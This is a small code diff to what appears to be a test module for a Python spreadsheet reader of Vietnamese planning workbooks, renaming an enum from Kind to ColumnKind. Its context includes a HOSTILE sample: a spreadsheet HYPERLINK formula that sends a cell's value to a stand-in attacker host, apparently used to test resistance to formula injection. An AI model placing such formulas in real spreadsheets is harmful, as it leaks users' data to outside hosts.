@@ -19,7 +19,7 @@ from openpyxl.worksheet.worksheet import Worksheet
 from lib.base import vietnamese as vn
 from lib.plan import Area, Decision, Indicator, Milestone, Origin, Plan, PlanInfo, Task
 from lib.reading import form
-from lib.reading.form import Kind, SheetForm
+from lib.reading.form import ColumnKind, SheetForm
 
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?q="&A1,"bấm")',
@@ -147,7 +147,7 @@ def hostile_book(spent: int = 0) -> bytes:
 def _columns_of_words(book: Workbook, sheet_form: SheetForm) -> Iterator[tuple[Worksheet, int]]:
     """The columns that take any words; the sample's stand in the form's order."""
     for number, column in enumerate(sheet_form.columns, start=1):
-        if column.kind is Kind.TEXT and column.field not in ("direction", "combine"):
+        if column.kind is ColumnKind.TEXT and column.field not in ("direction", "combine"):
             yield book[sheet_form.title], number
 
 
